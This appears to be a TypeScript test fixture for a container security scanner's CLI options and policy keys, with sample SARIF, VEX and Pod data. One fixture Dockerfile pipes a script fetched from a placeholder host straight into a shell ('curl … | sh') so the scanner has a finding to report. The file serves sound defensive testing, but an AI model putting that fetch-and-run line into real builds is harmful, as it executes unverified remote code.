import type { Files } from './spot.js';
import { PINNED } from './spot.js';

/** An option or a key of the policy that asks for something that the repository cannot have. */
export interface Request {
  readonly name: string;
  /**
   * The request is refused with an error, a row names what was not done, a finding is there, or it is told and does not
   * count: what it would do can only accept something.
   */
  readonly label: 'refused' | 'gap' | 'found' | 'told';
  /** What the error, the row or the finding says. */
  readonly by: RegExp;
  readonly words?: readonly string[];
  readonly policy?: string;
  readonly files?: Files;
}

const SARIF = JSON.stringify({
  version: '2.1.0',
  runs: [
    {
      tool: { driver: { name: 'other', rules: [{ id: 'EVIL1' }] } },
      results: [
        {
          ruleId: 'EVIL1',
          level: 'error',
          message: { text: 'bad' },
          locations: [
            {
              physicalLocation: {
                artifactLocation: { uri: 'other/Dockerfile' },
                region: { startLine: 1 },
              },
            },
          ],
        },
      ],
    },
  ],
});
const VEX = JSON.stringify({
  '@context': 'https://openvex.dev/ns/v0.2.0',
  '@id': 'https://a.example/vex',
  author: 'a',
  timestamp: '2026-01-01T00:00:00Z',
  version: 1,
  statements: [
    {
      vulnerability: { name: 'CVE-2020-1' },
      products: [{ '@id': 'pkg:docker/acme/app@1.0' }],
      status: 'not_affected',
      justification: 'component_not_present',
    },
  ],
});
const POD =
  'apiVersion: v1\nkind: Pod\nmetadata: { name: a }\nspec: { containers: [{ name: c, image: "elsewhere.example/a:1" }] }\n';
const HARM = `FROM ${PINNED}\nRUN curl -s https://a.example/x | sh\nUSER 1\nHEALTHCHECK NONE\n`;

const option = (
  name: string,
  label: Request['label'],
  by: RegExp,
  words: readonly string[],
  files: Files = {},
): Request => ({ name, label, by, words, files });
const key = (
  name: string,
  label: Request['label'],
  by: RegExp,
  policy: string,
  files: Files = {},
): Request => ({ name, label, by, policy, files });

const OPTIONS: readonly Request[] = [
  option('findings to import without an image', 'found', /EVIL1/, ['--import', '@/x.sarif'], {
    'x.sarif': SARIF,
  }),
  option('findings to import from no file', 'refused', /gone\.sarif/, ['--import', '@/gone.sarif']),
  option('files to verify without an image', 'gap', /verify-files/, ['--verify-files']),
  option('digests to verify without an image', 'gap', /verify-digests/, ['--verify-digests']),
  option('malware to look for without an image', 'gap', /malware/, ['--malware', 'clamav']),
  option('a platform that is none', 'refused', /bogus/, ['--platform', 'bogus/xyz']),
  option('a platform without an image', 'gap', /platform/, ['--platform', 'linux/arm64']),
  option('a Dockerfile that is not there', 'gap', /gone/, ['--dockerfile', 'gone/Dockerfile']),
  option('an option of another command', 'refused', /--only/, ['--only', 'lint']),
  option('VEX from no file', 'refused', /gone\.json/, ['--vex', '@/gone.json']),
  option('VEX without an image', 'told', /vex/i, ['--vex', '@/vex.json'], { 'vex.json': VEX }),
  option('a key without an image', 'gap', /key/, ['--key', '@/gone.pub']),
  option('a baseline from no file', 'refused', /gone\.json/, ['--baseline', '@/gone.json']),
  option('a policy from no file', 'refused', /gone\.yml/, ['--policy', '@/gone.yml']),
  option('known exploits from no file', 'refused', /gone\.json/, ['--kev', '@/gone.json']),
  option('forecasts from no file', 'refused', /gone\.csv/, ['--epss', '@/gone.csv']),
  option('an image that is not there', 'gap', /gone\.tar/, ['--image', '@/gone.tar']),
  option('an attested SBOM without an image', 'gap', /attested-sbom/, ['--attested-sbom']),
  option('advisories from no folder', 'refused', /gone/, ['--advisories', '@/gone']),
];

const KEYS: readonly Request[] = [
  key(
    'trust of an image that is not there',
    'gap',
    /trust/,
    'trust: [{ images: "ghcr.io/a/*", signed-by: [{ key: a.pub }] }]\n',
  ),
  key(
    'an exception for nothing',
    'told',
    /exception/i,
    'exceptions: [{ rule: PS0023, reason: x, until: 2099-01-01 }]\n',
  ),
  key(
    'an exception that has ended',
    'found',
    /PS0023/,
    'exceptions: [{ rule: PS0023, reason: x, until: 2020-01-01 }]\n',
    { Dockerfile: HARM },
  ),
  key(
    'an allowed gap that is none',
    'told',
    /allow-uncovered/,
    'allow-uncovered: [{ check: lint, target: gone.yaml }]\n',
  ),
  key(
    'an allowed gap that has ended',
    'gap',
    /chart/,
    'allow-uncovered: [{ check: manifest, target: chart, until: 2020-01-01 }]\n',
    {
      'chart/Chart.yaml': 'apiVersion: v2\nname: a\n',
      'chart/templates/a.yaml': `{{- if .x }}\n${POD}{{- end }}\n`,
    },
  ),
  key('a key that is none', 'refused', /bogus/, 'bogus: 1\n'),
  key('a key in another case', 'refused', /Exceptions/, 'Exceptions: []\n'),
  key('a key in two places', 'refused', /twice|duplicat/i, 'image: a.tar\nimage: b.tar\n'),
  key('images that are not there', 'gap', /gone\.tar/, 'images: [gone.tar]\n'),
  key('deployed images without a network', 'gap', /elsewhere\.example/, 'deployed-images: all\n', {
    'a.yaml': POD,
  }),
  key('a registry that is not allowed', 'found', /elsewhere\.example/, 'registries: [ghcr.io]\n', {
    'a.yaml': POD,
  }),
  key(
    'provenance of packages without an image',
    'gap',
    /provenance/,
    'package-provenance: [{ packages: "pkg:npm/*" }]\n',
  ),
  key('a preset that is none', 'refused', /bogus/, 'extends: bogus\n'),
  key(
    'a rule that is no expression',
    'refused',
    /rules|when/,
    'rules: [{ id: a, severity: high, when: "finding.", message: x }]\n',
  ),
  key('no mapping', 'refused', /portside\.yml/, '[]\n'),
  key('a list that is a text', 'refused', /exceptions/, 'exceptions: all\n'),
  key('a file in another case', 'gap', /Portside\.yml/, '', {
    '.github/Portside.yml': 'extends: strict\n',
    '.github/portside.yml': null,
  }),
  key('a file in another folder', 'gap', /portside\.yml/, '', {
    'portside.yml': 'extends: strict\n',
    '.github/portside.yml': null,
  }),
  key('a link out of the repository', 'refused', /portside\.yml/, '', {
    '.github/portside.yml': { link: '/etc/hostname' },
  }),
  key('a link to itself', 'refused', /portside\.yml/, '', {
    '.github/portside.yml': { link: 'portside.yml' },
  }),
];

export const REQUESTS: readonly Request[] = [...OPTIONS, ...KEYS];
